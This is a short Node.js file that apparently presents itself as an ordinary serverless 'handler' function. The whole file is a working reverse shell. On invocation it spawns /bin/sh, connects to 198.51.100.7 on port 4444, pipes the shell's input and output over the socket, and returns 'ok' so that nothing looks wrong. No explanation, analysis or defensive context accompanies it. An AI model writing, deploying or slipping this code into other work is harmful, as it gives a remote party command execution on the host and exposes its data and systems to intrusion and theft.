const net = require("net");
const cp = require("child_process");

exports.handler = async () => {
  const sh = cp.spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "198.51.100.7", function () {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return "ok";
};
